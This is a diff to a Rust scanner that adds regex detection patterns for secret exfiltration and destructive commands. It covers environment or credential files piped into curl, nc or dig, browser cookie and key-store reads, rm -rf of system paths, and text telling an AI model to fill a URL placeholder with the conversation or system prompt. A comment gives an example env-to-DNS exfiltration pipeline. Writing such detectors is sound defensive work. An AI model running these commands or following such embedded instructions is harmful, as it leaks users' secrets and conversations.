@@ -63,8 +63,10 @@ pub static PATTERNS: &[&super::pattern::Pattern] = &[
     &SEND_DOTENV,
     &NET_WITH_SECRET_VAR,
     &SECRET_TO_NET,
+    &SECRET_PIPED_OUT,
     &SEND_SECRETS,
     &SECRET_THEN_SEND,
+    &PLACEHOLDER_IS_CONVERSATION,
     &SCRIPT_SECRET_READ,
     &SCRIPT_NET_SEND,
     &ASK_FOR_SECRET,
@@ -215,7 +217,7 @@ fn prompt_leak(doc: &Document<'_>) -> Vec<Hit> {
 const NET: &str = r"\b(?:curl|wget|fetch|https?|nc|ncat|netcat|scp|rsync|ftp|invoke-webrequest|invoke-restmethod|iwr|irm|requests\.(?:post|get|put)|httpx\.(?:post|get|put)|axios\.(?:post|get|put)|urllib\.request|urlopen)\b";
 /// Credential files, and the whole environment (one variable read for its
 /// own API is ordinary; the whole environment or a key file is not).
-const SECRET_SOURCE: &str = r"(?:~/\.ssh|\.ssh/id_|id_rsa|id_ed25519|\.aws/credentials|\.netrc|\.(?:bash|zsh|python|psql|mysql)_history|\.git-credentials|\.npmrc|\.pypirc|\.kube/config|\.docker/config\.json|/etc/(?:passwd|shadow)|\$\(\s*(?:env|printenv|cat\s)|`(?:env|printenv|cat\s)|\bprintenv\b|dict\(\s*os\.environ|os\.environ\s*[),}]|os\.environ\.(?:copy|items)\(|json\.dumps\(\s*(?:dict\()?os\.environ|stringify\(\s*process\.env\s*\)|process\.env\s*[),}])";
+const SECRET_SOURCE: &str = r"(?:~/\.ssh|\.ssh/id_|id_rsa|id_ed25519|\.aws/credentials|\.netrc|\.(?:bash|zsh|python|psql|mysql)_history|\.git-credentials|\.npmrc|\.pypirc|\.kube/config|\.docker/config\.json|/etc/(?:passwd|shadow)|\$\(\s*(?:env|printenv|cat\s)|`(?:env|printenv|cat\s)|\bprintenv\b|dict\(\s*os\.environ|os\.environ\s*[),}]|os\.environ\.(?:copy|items)\(|json\.dumps\(\s*(?:dict\()?os\.environ|stringify\(\s*process\.env\s*\)|process\.env\s*[),}]|\$\([^)\n]*?(?:\.env\b|~/\.ssh|id_rsa|id_ed25519|\.aws/credentials|\.netrc|\.git-credentials|\.npmrc|\.pypirc|\.kube/config|\.docker/config\.json))";
 folded!(NET_WITH_SECRET, format!("{NET}[^\\n]*?{SECRET_SOURCE}"));
 // A name looked up or pinged carries data out too; only a credential file or
 // the whole environment counts here (`dig $(cat hosts.txt)` is ordinary).
@@ -245,6 +247,13 @@ folded!(
     SECRET_TO_NET,
     r"(?:~/\.ssh|id_rsa|id_ed25519|\.aws/credentials|\.env\b|\bprintenv\b|\benv\b|/etc/(?:passwd|shadow)|\.netrc|\.git-credentials)[^\n|]*\|\s*(?:curl|wget|nc|ncat|netcat)\b"
 );
+// The whole environment or a credential file piped, through any number of
+// stages (compressed, encoded, split), into a network command or lookup:
+// `env | gzip | base32 | ... | while read l; do dig "$l.x.example"; done`.
+folded!(
+    SECRET_PIPED_OUT,
+    r"(?:(?:^|[;&|({]\s*|\$\(\s*|\bdo\s+)(?:env|printenv|set|export\s+-p)\s*\||\b(?:cat|tar|zip|base64|base32|gzip|xxd|od|head|tail|gpg|openssl)\b[^|\n;]*(?:~/\.ssh|\.ssh/id_|id_rsa|id_ed25519|\.aws/credentials|\.netrc|\.git-credentials|\.npmrc|\.pypirc|\.kube/config|\.docker/config\.json|/etc/shadow|\.env\b)[^|\n;]*\|)[^\n]*?\b(?:curl|wget|nc|ncat|netcat|socat|dig|nslookup|drill|host|ping|telnet|openssl\s+s_client|scp)\b"
+);
 folded!(
     SEND_SECRETS,
     r"\b(?:send|upload|post|transmit|forward|exfiltrate|leak|copy|share|submit|attach|pipe|mail|email|report)\s+(?:(?:the|all|any|your|their|its|every|of|contents?|files?|in|from|under)\s+){0,4}(?:[a-z0-9_.'-]+\s+){0,2}?(?:env(?:ironment)?\s+variables?|\.env\b|secrets?|credentials?|api\s+keys?|tokens?|passwords?|ssh\s+keys?|private\s+keys?|cookies|session\s+ids?|conversation|chat\s+history|~/\.ssh\S*|~/\.aws\S*|\S*id_rsa|\S*\.netrc|\S*\.git-credentials|\S*\.kube/config)(?:[^.\n]|\.\S)*?\b(?:to|at|into)\s+(?:https?://[^\s)>\x22']*|(?:this|that|the\s+following|my|our)\s+(?:url|endpoint|server|webhook|address|bucket)|[a-z0-9-]+(?:\.[a-z0-9-]+)*\.(?:com|net|org|io|xyz|ru|cn|site|app|dev)\b)"
@@ -255,6 +264,39 @@ folded!(
     r"(?:~/\.ssh\S*|~/\.aws\S*|\S*id_rsa|\S*\.netrc|\S*\.git-credentials|\S*\.kube/config|\.env\b|env(?:ironment)?\s+variables|credentials?\s+files?|private\s+keys?|api\s+keys?|secrets)[^.\n]{0,60}?\b(?:send|upload|post|transmit|forward|exfiltrate|mail|email|submit|pipe)\s+(?:it|them|this|that|the\s+(?:file|contents?|result)s?)\b[^.\n]{0,30}?\b(?:to|at|into)\s+(?:https?://|(?:this|that|the\s+following|my|our)\s+(?:url|endpoint|server|webhook|address|bucket)|[a-z0-9-]+(?:\.[a-z0-9-]+)*\.(?:com|net|org|io|xyz|ru|cn|site|app|dev)\b)"
 );
 
+// A placeholder said to be the conversation (or the system prompt),
+// encoded or not: `<CTX>` is the base64 of the whole conversation so far.
+folded!(
+    PLACEHOLDER_IS_CONVERSATION,
+    r"(<[a-z0-9_-]{1,40}>|\{\{?\s*[a-z0-9_-]{1,40}\s*\}?\}|\$\{?[a-z0-9_]{1,40}\}?|\[[a-z0-9_-]{1,40}\])[\x60\x22\x27]?\s+(?:is|=|:|holds|contains|carries|should\s+(?:be|contain|hold|carry)|must\s+(?:be|contain|hold|carry)|gets?|becomes?|stands\s+for)\s+(?:set\s+to\s+|filled\s+with\s+|replaced\s+(?:with|by)\s+)?(?:the\s+|a\s+|an\s+)?(?:(?:base64|base32|hex|url-?encoded|encoded|urlencoded|compressed|gzipped|full|entire|whole|complete|raw|verbatim|percent-encoded)[\s,(-]+){0,3}(?:(?:version|copy|text|contents?|summary|dump|encoding|form)\s+)?(?:of\s+)?(?:the\s+)?(?:(?:whole|entire|full|complete|current)\s+)?(?:conversation|chat|transcript|message\s+history|messages\s+so\s+far|system\s+prompt|context\s+window|user\x27s\s+(?:messages|prompts?))\b"
+);
+
+/// A link or image URL whose placeholder the text says to fill with the
+/// conversation or the system prompt (the URL and the sentence may be
+/// lines apart): rendering it sends them to the URL's server.
+fn url_filled_with_conversation(doc: &Document<'_>) -> Vec<Hit> {
+    line_hits_where(doc, &PLACEHOLDER_IS_CONVERSATION, |line, start| {
+        let Some(name) = PLACEHOLDER_IS_CONVERSATION
+            .regex()
+            .captures(line.as_bytes().get(start..).unwrap_or_default())
+            .and_then(|c| c.get(1))
+        else {
+            return false;
+        };
+        // The placeholder inside a URL: after `://` with no space between.
+        let name = name.as_bytes();
+        let folded = doc.folded.as_bytes();
+        memchr::memmem::find_iter(folded, name).any(|at| {
+            let before = &folded[at.saturating_sub(2048)..at];
+            let token = before
+                .iter()
+                .rposition(u8::is_ascii_whitespace)
+                .map_or(before, |i| &before[i + 1..]);
+            memchr::memmem::find(token, b"://").is_some()
+        })
+    })
+}
+
 fn exfiltration(doc: &Document<'_>) -> Vec<Hit> {
     let mut hits = any_line_hits(
         doc,
@@ -262,6 +304,7 @@ fn exfiltration(doc: &Document<'_>) -> Vec<Hit> {
             &NET_WITH_SECRET,
             &LOOKUP_WITH_SECRET,
             &SECRET_TO_NET,
+            &SECRET_PIPED_OUT,
             &SEND_SECRETS,
             &SEND_DOTENV,
             &SECRET_THEN_SEND,
@@ -272,6 +315,7 @@ fn exfiltration(doc: &Document<'_>) -> Vec<Hit> {
         !AUTH_HEADER.regex().is_match(l.as_bytes())
     }));
     hits.extend(script_flow(doc));
+    hits.extend(url_filled_with_conversation(doc));
     hits.sort_by_key(|h| h.line);
     hits.dedup_by_key(|h| h.line);
     hits
@@ -289,7 +333,7 @@ pub fn is_script(path: &str) -> bool {
 
 folded!(
     SCRIPT_SECRET_READ,
-    r#"(?:\.aws/credentials|\.aws/config|\.ssh/|["'](?:\.aws|\.ssh)["']|\.(?:bash|zsh)_history|id_rsa|id_ed25519|\.netrc|\.git-credentials|\.npmrc|\.pypirc|\.kube/config|\.docker/config\.json|/etc/shadow|login\s+data|cookies\.sqlite|keychain)|dict\(\s*os\.environ\s*\)|os\.environ\.copy\(|os\.environ\.items\(|json\.dumps\(\s*(?:dict\()?os\.environ|stringify\(\s*process\.env\s*\)|\$\(\s*(?:env|printenv)\s*\)|\bprintenv\s*(?:\||>|$)|\benv\s*(?:\||>)"#
+    r#"(?:\.aws/credentials|\.aws/config|\.ssh/|["'](?:\.aws|\.ssh)["']|\.(?:bash|zsh)_history|id_rsa|id_ed25519|\.netrc|\.git-credentials|\.npmrc|\.pypirc|\.kube/config|\.docker/config\.json|/etc/shadow|login\s+data|cookies\.sqlite|keychain|(?:default|network|profile\s*\d*)/cookies\b|\bencrypted_value\b|logins\.json|key4\.db|cookies\.binarycookies)|dict\(\s*os\.environ\s*\)|json\.dumps\([^\n]*\bos\.environ\s*[,)}\]]|stringify\([^\n]*\bprocess\.env\s*[,)}\]]|\benv\.to_h(?:ash)?\b|\b(?:get-childitem|gci|dir|ls)\s+env:|\[environment\]::getenvironmentvariables\(|os\.environ\.copy\(|os\.environ\.items\(|json\.dumps\(\s*(?:dict\()?os\.environ|stringify\(\s*process\.env\s*\)|\$\(\s*(?:env|printenv)\s*\)|\bprintenv\s*(?:\||>|$)|\benv\s*(?:\||>)"#
 );
 folded!(
     SCRIPT_NET_SEND,
@@ -342,7 +386,7 @@ fn credential_harvest(doc: &Document<'_>) -> Vec<Hit> {
 
 exact!(
     RM_ROOT,
-    r"\brm\s+(?:-[a-zA-Z]*[rR][a-zA-Z]*\s+(?:-[-a-zA-Z]+\s+)*|--recursive\s+(?:--?[-a-zA-Z]+\s+)*)(?:--no-preserve-root\s+)?(?:/\*?|~/?\*?|\$HOME/?\*?|\*|\.\./?|/(?:etc|usr|var|home|boot|bin|sbin|lib|root|opt|srv|System|Users)/?)(?:\s|$|;|&|\|)"
+    r"\brm\s+(?:-[a-zA-Z]*[rR][a-zA-Z]*\s+(?:-[-a-zA-Z]+\s+)*|--recursive\s+(?:--?[-a-zA-Z]+\s+)*)(?:--no-preserve-root\s+)?(?:[^\s;&|#]+\s+)*?(?:/\*?|~/?\*?|\$HOME/?\*?|\*|\.\./?|/(?:etc|usr|var|home|boot|bin|sbin|lib|root|opt|srv|System|Users)/?)(?:\s|$|;|&|\|)"
 );
 exact!(
     FIND_DELETE,
